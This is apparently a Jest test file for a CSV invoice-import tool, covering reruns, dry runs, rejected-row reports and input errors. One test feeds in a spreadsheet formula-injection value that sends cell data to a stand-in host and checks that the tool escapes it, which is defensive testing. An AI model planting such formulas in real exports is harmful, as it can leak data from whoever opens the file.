import { parse } from 'csv-parse/sync';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { BulkAnswer } from '../bulk';
import type { Door } from '../door';
import { Failure } from '../failure';
import { openTerminal } from '../terminal';
import { countRows } from './count-rows';
import { importFile, rehearse } from './import-file';
import { onlineRetail } from './online-retail';

const folder = mkdtempSync(join(tmpdir(), 'import-'));
afterAll(() => rmSync(folder, { recursive: true }));
const heading = 'Invoice,StockCode,Description,Quantity,InvoiceDate,Price,Customer ID,Country\n';
const row = (invoice: string, customer: string, quantity = '6', sku = 'A'): string =>
  `${invoice},${sku},THING,${quantity},2011-06-01 08:26:00,2.55,${customer},France\n`;

let files = 0;
function write(text: string | Buffer, ending = 'csv'): string {
  const file = join(folder, `${files++}.${ending}`);
  writeFileSync(file, text);
  return file;
}

interface Line {
  readonly id: string;
  readonly command: string;
  readonly data: Readonly<Record<string, unknown>>;
}
/** A door behind which a log of message ids stands; `refuse` answers instead where it says something. */
function doorOf(
  known: Map<string, BulkAnswer>,
  refuse: (line: Line) => Partial<BulkAnswer> | undefined = () => undefined,
) {
  const door: Door = {
    ask: () => Promise.resolve({ status: 200, headers: {}, body: { items: [] } }),
    isOwner: true,
    lines: () => {
      throw new Error('not asked for');
    },
    bulk: async function* (lines, { dryRun = false } = {}) {
      for await (const text of lines) {
        const line = JSON.parse(text) as Line;
        const refused = refuse(line);
        const first = known.get(line.id);
        const receipt = { position: `log-0-${known.size + 1}`, events: [{}] };
        const answer = refused
          ? { id: line.id, status: 409, ...refused }
          : first
            ? { ...first, replayed: true }
            : { id: line.id, status: 201, receipt, replayed: false };
        if (!refused && !first && !dryRun) known.set(line.id, answer);
        yield JSON.stringify(answer);
      }
    },
    close: () => Promise.resolve(),
  };
  return door;
}
const quiet = { isTTY: false, write: () => true };
const importing = (file: string) => ({
  mapping: onlineRetail,
  file,
  naming: (kind: string, key: string) => `${kind}-${key}`,
  terminal: openTerminal('en', true, quiet, quiet),
  elapsed: () => 0,
});

it('counts rows, documents, customers and events, and a second run adds nothing', async () => {
  const file = write(gzipSync(heading + row('1', '7') + row('1', '7') + row('2', '') + row('C3', '7', '-1')), 'csv.gz');
  const door = doorOf(new Map());
  const result = { rows: 4, rejected: 0, customers: 1, orders: 3, seconds: 0 };
  expect(await importFile(door, importing(file))).toEqual({
    ...result,
    accepted: 4,
    unchanged: 0,
    events: 3,
    position: 'log-0-3',
  });
  expect(await importFile(door, importing(file))).toEqual({
    ...result,
    accepted: 0,
    unchanged: 4,
    events: 0,
    position: 'log-0-3',
  });
  expect(existsSync(`${file}.rejected.csv`)).toBe(false);
});

it('goes on after a kill: what is in counts as unchanged', async () => {
  const file = write(heading + row('1', '7') + row('2', '7') + row('3', '7'));
  const known = new Map<string, BulkAnswer>();
  const dying = doorOf(known, ({ data }) => {
    if (data['number'] === '2') throw new Failure({ zh: '断了', en: 'gone' });
    return undefined;
  });
  await expect(importFile(dying, importing(file))).rejects.toThrow('gone');
  expect(await importFile(doorOf(known), importing(file))).toMatchObject({
    accepted: 2,
    unchanged: 1,
    orders: 3,
    events: 2,
  });
});

it('names its columns of the result in the order that is fixed', async () => {
  const result = await rehearse(doorOf(new Map()), importing(write(heading + row('1', '7'))));
  expect(Object.keys(result)).toEqual([
    'rows',
    'accepted',
    'rejected',
    'unchanged',
    'customers',
    'orders',
    'events',
    'position',
    'seconds',
  ]);
});

it('rehearses', async () => {
  const file = write(heading + row('1', '7') + row('2', '8'));
  expect(await rehearse(doorOf(new Map()), importing(file))).toMatchObject({
    rows: 2,
    accepted: 2,
    customers: 2,
    orders: 2,
    events: 0,
  });
});

it('writes rejected rows with line, field, value and reason beside the input, and removes the file when they are in', async () => {
  const bad = row('1', '7', 'six');
  const file = write(heading + row('1', '7') + bad + row('2', '8'));
  expect(await importFile(doorOf(new Map()), importing(file))).toMatchObject({ accepted: 1, rejected: 2, orders: 1 });
  expect(statSync(`${file}.rejected.csv`).mode & 0o777).toBe(0o600); // it holds what customers' rows held
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toBe(
    '\ufeffline,field,value,reason\r\n2,Invoice,1,another row of the invoice was rejected\r\n3,Quantity,six,is no whole number\r\n',
  );
  writeFileSync(file, heading + row('1', '7'));
  await importFile(doorOf(new Map()), importing(file));
  expect(existsSync(`${file}.rejected.csv`)).toBe(false);
});

it('writes no rejected value as a formula that a spreadsheet would run, and alters none that is a number', async () => {
  const formula = '"=HYPERLINK(""http://x.invalid/?""&A1,""open"")"';
  const file = write(heading + row('1', '7', formula) + row('2', '7', '-1.5'));
  await importFile(doorOf(new Map()), importing(file));
  const records = parse(readFileSync(`${file}.rejected.csv`, 'utf8'), { bom: true }) as readonly string[][];
  expect(records.map(([, , value]) => value)).toEqual(['value', `'=HYPERLINK("http://x.invalid/?"&A1,"open")`, '-1.5']);
});

it('says which row the server means by a line of a document', async () => {
  const file = write(heading + row('1', '7', '-1', 'X') + row('1', '7', '6', 'Y') + row('1', '7', '6', 'Z'));
  const errors = [
    { pointer: '/lines/1/sku', detail: 'no such sku' },
    { pointer: '/adjustments/0/sku', detail: 'not that either' },
  ];
  const door = doorOf(new Map(), ({ command }) =>
    command === 'sales.PlaceOrder'
      ? { status: 400, problem: { status: 400, detail: 'two faults', errors } }
      : undefined,
  );
  expect(await importFile(door, importing(file))).toMatchObject({ accepted: 0, rejected: 3, orders: 0 });
  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n');
  expect(lines).toContain('4,/lines/1/sku,sales.PlaceOrder,no such sku');
  expect(lines).toContain('2,/adjustments/0/sku,sales.PlaceOrder,not that either');
});

it.each(['command/key-reused', 'command/exists'])('says of a document that is in with other rows: %s', async (code) => {
  const door = doorOf(new Map(), ({ command }) =>
    command === 'sales.PlaceOrder' ? { problem: { status: 409, code } } : undefined,
  );
  const file = write(heading + row('1', '7') + row('1', '7', '6', 'B'));
  const run = importing(file);
  expect(await importFile(door, run)).toMatchObject({ accepted: 0, rejected: 2, orders: 0 });
  const said = 'this document is in already, with other rows or content: nothing was changed';
  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n');
  expect(lines.slice(1, 3)).toEqual([2, 3].map((line) => expect.stringContaining(`${line},,1,"${said}`) as unknown));
  await importFile(door, { ...run, terminal: openTerminal('zh', true, quiet, quiet) });
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain('2,,1,该单据此前已以不同的行或内容导入');
});

it('stops when the server cannot go on', async () => {
  const door = doorOf(new Map(), () => ({ status: 503, problem: { status: 503, detail: 'the log has stopped' } }));
  await expect(importFile(door, importing(write(heading + row('1', '7'))))).rejects.toThrow('the log has stopped');
});

it('takes an invoice with all its rows, however far apart they lie', async () => {
  const others = Array.from({ length: 100 }, (_, i) => row(`x${i}`, '7')).join('');
  const file = write(heading + row('1', '7') + others + row('1', '7'));
  const lines: number[] = [];
  const door = doorOf(new Map(), ({ data }) => {
    if (data['number'] === '1') lines.push((data['lines'] as readonly unknown[]).length);
    return undefined;
  });
  expect(await importFile(door, importing(file))).toMatchObject({ rows: 102, accepted: 102, orders: 101 });
  expect(lines).toEqual([2]);
});

it('refuses a file whose invoices are so scattered that they would fill the memory, before anything is sent', async () => {
  const scattered = ['1', '2', '3', '1', '2', '3'].map((invoice) => row(invoice, '7')).join('');
  const file = write(heading + scattered + row('4', '7'));
  await expect(countRows(file, onlineRetail, 5)).rejects.toThrow(/Sort it by/);
  expect([...(await countRows(file, onlineRetail, 6))]).toEqual([
    ['1', 2],
    ['2', 2],
    ['3', 2],
    ['4', 1],
  ]);
});

it('tells of a broken end before anything is sent', async () => {
  const asked = jest.fn(() => undefined);
  const file = write(`${heading}${row('1', '7').repeat(50)}"never closed`);
  await expect(importFile(doorOf(new Map(), asked), importing(file))).rejects.toThrow(/line \{line\}/);
  expect(asked).not.toHaveBeenCalled();
});

it('leaves the rejected rows of an import alone when it rehearses, and when it breaks off', async () => {
  const file = write(heading + row('1', '7', 'six') + row('2', '7'));
  await importFile(doorOf(new Map()), importing(file));
  const rejected = readFileSync(`${file}.rejected.csv`, 'utf8');
  const gone = doorOf(new Map(), () => ({ status: 503, problem: { status: 503, detail: 'gone' } }));
  await expect(importFile(gone, importing(file))).rejects.toThrow('gone');
  expect(await rehearse(doorOf(new Map()), importing(file))).toMatchObject({ accepted: 1, rejected: 1 });
  expect(readFileSync(`${file}.dry-run.rejected.csv`, 'utf8')).toBe(rejected);
  writeFileSync(file, heading + row('1', '7'));
  await rehearse(doorOf(new Map()), importing(file));
  expect(existsSync(`${file}.dry-run.rejected.csv`)).toBe(false);
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toBe(rejected);
  expect(existsSync(`${file}.rejected.csv.unfinished`)).toBe(false);
});

it.each([
  ['a file that is not there', () => join(folder, 'none.csv'), /no file/],
  ['an empty file', () => write(''), /empty/],
  ['other columns', () => write('a,b\n1,2\n'), /lacks/],
  ['another encoding', () => write(Buffer.from([...Buffer.from(heading), 0xd6, 0xd0, 0x0a])), /not UTF-8/],
  ['a quote that is never closed', () => write(`${heading}"1,2\n`), /line \{line\}/],
  [
    'a packed file that is cut off',
    () => write(gzipSync(heading + row('1', '7')).subarray(0, 40), 'csv.gz'),
    /it is cut off or damaged/,
  ],
])('says plainly what is wrong with %s', async (_what, file, words) => {
  await expect(rehearse(doorOf(new Map()), importing(file()))).rejects.toThrow(words);
});
